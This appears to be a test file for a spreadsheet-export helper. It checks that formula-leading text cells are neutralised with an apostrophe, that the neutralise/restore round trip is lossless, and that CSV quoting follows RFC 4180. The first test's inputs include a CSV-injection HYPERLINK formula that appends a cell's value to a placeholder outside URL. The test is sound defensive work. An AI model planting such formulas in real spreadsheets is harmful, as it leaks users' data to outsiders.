import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { neutraliseTextCell, quoteCsvCell, restoreTextCell } from "./spreadsheet-cell";

describe("spreadsheet-safe text cells", () => {
  it("puts an apostrophe before text that begins with =, +, -, @, tab or carriage return", () => {
    // The trigger characters of the OWASP CSV-injection advice (common practice).
    for (const text of ['=HYPERLINK("http://x.test/"&A1,"x")', "+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]) {
      expect(neutraliseTextCell(text)).toBe(`'${text}`);
    }
  });

  it("leaves ordinary ids alone and marks a leading apostrophe so the rule stays invertible", () => {
    expect(neutraliseTextCell("pay-000123")).toBe("pay-000123");
    expect(neutraliseTextCell("")).toBe("");
    expect(neutraliseTextCell("'=x")).toBe("''=x");
    expect(neutraliseTextCell("'abc")).toBe("''abc");
  });

  it("restores exactly what was neutralised, for any text", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "a", "1", " ", '"') }), (text) => {
        expect(restoreTextCell(neutraliseTextCell(text))).toBe(text);
      }),
      { seed: 16, numRuns: 2000 },
    );
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(restoreTextCell(neutraliseTextCell(text))).toBe(text);
      }),
      { seed: 17, numRuns: 2000 },
    );
  });

  it("leaves cells that were never marked as they are", () => {
    expect(restoreTextCell("'quoted")).toBe("'quoted");
    expect(restoreTextCell("plain")).toBe("plain");
    expect(restoreTextCell("'")).toBe("'");
  });
});

describe("quoteCsvCell", () => {
  it("quotes a cell holding a comma, a quote or a line break and doubles inner quotes, as RFC 4180 §2 rules 6 and 7 say", () => {
    expect(quoteCsvCell("a,b")).toBe('"a,b"');
    expect(quoteCsvCell('say "hi"')).toBe('"say ""hi"""');
    expect(quoteCsvCell("two\nlines")).toBe('"two\nlines"');
    expect(quoteCsvCell("cr\r")).toBe('"cr\r"');
  });

  it("leaves every other cell as it is, spaces and apostrophes included", () => {
    for (const text of ["web", "", " padded ", "'=SUM(A1)", "-12.5"]) expect(quoteCsvCell(text)).toBe(text);
  });
});
